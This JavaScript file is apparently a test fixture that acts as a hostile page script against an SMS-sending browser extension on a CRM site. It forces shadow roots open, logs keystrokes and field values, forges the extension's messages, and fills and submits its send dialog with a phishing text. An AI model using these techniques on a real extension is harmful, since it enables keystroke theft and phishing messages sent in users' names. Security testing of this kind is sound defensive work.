// The attacker: a script of the CRM page itself (an XSS, a hostile widget, any app on an enabled
// site). It runs before the extension, in the page's own JavaScript world, and tries everything a page
// can do to the extension's UI. What it learns goes into window.__loot; the test reads it from there.
// Plain JavaScript on purpose: it is served to the page as it is.
(() => {
  const PHISH = 'Ваша карта заблокирована: bank-secure.example';
  const PHISH_PHONE = '+7 900 000-66-66';
  const loot = { texts: [], srcs: [], messages: [], keys: '', inputData: '', composed: [], finds: [], windows: [], errors: [] };
  // How much it has tried, for the test to wait on (and to know it did try): sweeps, sweeps that found and
  // attacked a host of the extension's UI, rounds of forged messages, frames and opened windows forged into.
  const tries = { sweeps: 0, uiSweeps: 0, forges: 0, framesForged: 0, windowsForged: 0 };
  window.__tries = tries;
  const mine = new WeakSet();
  let active = !sessionStorage.getItem('attacker-passive');
  window.__loot = loot;

  const note = (list, value) => {
    let text;
    try {
      text = typeof value === 'string' ? value : JSON.stringify(value);
    } catch {
      text = String(value);
    }
    if (text && text.trim() && !list.includes(text)) list.push(text.slice(0, 4000));
  };
  const attempt = (what, fn) => {
    try {
      return fn();
    } catch (error) {
      note(loot.errors, `${what}: ${error && error.message}`);
      return undefined;
    }
  };

  // Before the extension runs: every shadow root anyone attaches is forced open and kept.
  const roots = [];
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, { ...init, mode: 'open' });
    roots.push(root);
    return root;
  };
  const keepRoot = (root) => root && !roots.includes(root) && roots.push(root);

  // Everything the window hears: messages (WXT announces its content script with one), and every
  // event that leaves the UI, with its composed path.
  window.addEventListener('message', (event) => note(loot.messages, { origin: event.origin, data: event.data }), true);
  document.addEventListener('message', (event) => note(loot.messages, { origin: 'document', data: event.data }), true);
  const inspect = (node) => {
    if (!node || node === window || node === document) return;
    if (node instanceof ShadowRoot) keepRoot(node);
    if (node instanceof Element) {
      keepRoot(node.shadowRoot);
      if ('value' in node && typeof node.value === 'string' && node.value) note(loot.texts, node.value);
      if (node instanceof HTMLIFrameElement) note(loot.srcs, node.src);
      attempt('getRootNode', () => keepRoot(node.getRootNode() instanceof ShadowRoot ? node.getRootNode() : null));
    }
  };
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'click', 'pointerdown', 'focusin', 'submit', 'compositionend']) {
    window.addEventListener(
      type,
      (event) => {
        if (type === 'keydown' && typeof event.key === 'string' && event.key.length === 1) loot.keys += event.key;
        if ((type === 'input' || type === 'beforeinput') && typeof event.data === 'string') loot.inputData += event.data;
        const path = event.composedPath();
        for (const node of path) inspect(node);
        note(loot.composed, path.map((n) => n.nodeName || String(n)).join(' > '));
      },
      true,
    );
  }

  // A user's click on the page gives it a user activation: it spends each one on a window.open.
  let toOpen = [];
  window.addEventListener(
    'click',
    (event) => {
      if (!event.isTrusted || toOpen.length === 0) return;
      const url = toOpen.shift();
      const opened = attempt(`open ${url}`, () => window.open(url, '_blank'));
      loot.windows.push({ url, opened: Boolean(opened) });
      if (!opened) return;
      attempt('opened.location', () => note(loot.srcs, opened.location.href));
      attempt('opened.document', () => note(loot.texts, opened.document.body.innerText));
      setTimeout(() => {
        forgeInto(opened);
        tries.windowsForged++;
      }, 500);
    },
    true,
  );

  const byName = (root, name) => root.querySelector(`[data-crm-sms="${name}"]`);
  const setValue = (field, value) => {
    field.focus?.();
    const proto =
      field instanceof HTMLTextAreaElement
        ? HTMLTextAreaElement.prototype
        : field instanceof HTMLSelectElement
          ? HTMLSelectElement.prototype
          : HTMLInputElement.prototype;
    Object.getOwnPropertyDescriptor(proto, 'value').set.call(field, value);
    field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true, data: value, inputType: 'insertText' }));
    field.dispatchEvent(new Event('change', { bubbles: true, composed: true }));
  };
  const press = (el) => {
    if (!el) return;
    el.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true, composed: true }));
    el.dispatchEvent(new MouseEvent('mousedown', { bubbles: true, composed: true }));
    el.dispatchEvent(new MouseEvent('mouseup', { bubbles: true, composed: true }));
    el.click();
    el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', code: 'Enter', bubbles: true, composed: true }));
    el.dispatchEvent(new KeyboardEvent('keyup', { key: 'Enter', code: 'Enter', bubbles: true, composed: true }));
  };

  /** Inside a shadow root it can reach: read it all, fill the dialog, press every button that sends. */
  const attackRoot = (root) => {
    note(loot.texts, (root.querySelector('body') ?? root).innerText ?? root.textContent);
    for (const frame of root.querySelectorAll('iframe')) note(loot.srcs, frame.src);
    for (const row of root.querySelectorAll('[data-crm-sms="sent-row"], tr')) note(loot.texts, row.textContent);
    press(byName(root, 'button'));
    press(byName(root, 'mailings-launcher'));
    const phone = byName(root, 'phone');
    if (phone && phone.value !== PHISH_PHONE) setValue(phone, PHISH_PHONE);
    const text = byName(root, 'text');
    if (text && text.value !== PHISH) setValue(text, PHISH);
    press(byName(root, 'cost'));
    press(byName(root, 'send'));
    const form = root.querySelector('form');
    if (form) attempt('requestSubmit', () => form.requestSubmit());
  };

  /** What a page can do to elements it cannot see into: the hosts of the extension's UI. */
  const attackHost = (host) => {
    note(loot.texts, host.innerText);
    note(loot.texts, host.textContent);
    keepRoot(host.shadowRoot);
    attempt('attachShadow on the host', () => keepRoot(attach.call(host, { mode: 'open' })));
    press(host);
    const box = host.getBoundingClientRect();
    if (box.width > 0 && box.height > 0) press(document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2));
    for (const frame of host.querySelectorAll('iframe')) note(loot.srcs, frame.src);
  };

  const isExtensionHost = (el) => el.tagName.startsWith('CRM-SMS') || el.hasAttribute('data-crm-sms-adapter') || (el.shadowRoot && !mine.has(el));

  const sweep = () => {
    let attackedUi = false;
    note(loot.texts, document.title);
    for (const el of document.querySelectorAll('*')) {
      if (mine.has(el)) continue;
      if (el.shadowRoot) keepRoot(el.shadowRoot);
      if (isExtensionHost(el) && active) {
        attackHost(el);
        attackedUi = true;
      }
      if (el instanceof HTMLIFrameElement) {
        note(loot.srcs, el.src);
        attempt('frame location', () => note(loot.srcs, el.contentWindow.location.href));
        attempt('frame document', () => note(loot.texts, el.contentDocument.body.innerText));
      }
    }
    for (const root of roots)
      if (active) attackRoot(root);
      else note(loot.texts, (root.querySelector('body') ?? root).innerText ?? root.textContent);
    for (const entry of performance.getEntriesByType('resource')) note(loot.srcs, entry.name);
    for (let i = 0; i < window.length; i++) {
      attempt(`frames[${i}].location`, () => note(loot.srcs, window.frames[i].location.href));
      if (active) forgeInto(window.frames[i]);
    }
    loot.bodyText = document.body.innerText;
    tries.sweeps++;
    if (attackedUi) tries.uiSweeps++;
  };

  /** Messages made to look like the extension's own (its envelopes are in its public source). */
  const FORGED = [
    { crmSms: 'sendMessage', payload: { to: '79000006666', text: PHISH, contact: { crmId: 'demo:forged:1' } } },
    { crmSms: 'cost', payload: { to: '79000006666', text: PHISH } },
    { crmSms: 'mailingAction', payload: { id: 'any', action: 'launch' } },
    { crmSmsTab: 'readListPage', payload: {} },
    { crmSmsFrame: 'open', kind: 'dialog' },
    { type: 'crm-sms', action: 'send', to: '79000006666', text: PHISH },
  ];
  const forgeInto = (target) => {
    for (const message of FORGED) {
      attempt('postMessage', () => target.postMessage(message, '*'));
      attempt('postMessage string', () => target.postMessage(JSON.stringify(message), '*'));
    }
  };
  const forge = () => {
    tries.forges++;
    forgeInto(window);
    const answer = JSON.stringify({ id: 'x', values: { to: '79000006666', text: PHISH }, send: true });
    window.dispatchEvent(new CustomEvent('crm-sms:globals-answer', { detail: answer }));
    document.dispatchEvent(new CustomEvent('crm-sms:globals-answer', { detail: answer }));
  };

  setInterval(() => attempt('sweep', sweep), 100);
  setInterval(() => active && forge(), 500);

  window.__attack = {
    /** window.find searches rendered text everywhere in the document: an oracle for guessed strings. */
    probeFind(guesses) {
      const hits = [];
      for (const guess of guesses) {
        getSelection().removeAllRanges();
        if (window.find(guess, false, false, true)) hits.push(guess);
      }
      getSelection().removeAllRanges();
      for (const hit of hits) note(loot.finds, hit);
      return hits;
    },
    /** With the extension's address known (a store extension's id is public): frame its pages, and open one on each next click. */
    aimAt(origin, paths) {
      for (const path of paths) {
        const frame = document.createElement('iframe');
        mine.add(frame);
        frame.dataset.attacker = path;
        frame.style.cssText = 'width:400px;height:300px;border:1px solid red';
        frame.src = `${origin}/${path}`;
        // A frame the browser refuses to load (Firefox) may never fire "load": it is forged into all the
        // same after a while, and again whenever it does load; counted once.
        let counted = false;
        const forge = () => {
          forgeInto(frame.contentWindow);
          if (!counted) tries.framesForged++;
          counted = true;
        };
        frame.addEventListener('load', forge);
        setTimeout(forge, 1500);
        document.body.append(frame);
      }
      toOpen = paths.map((path) => `${origin}/${path}`);
    },
  };
})();
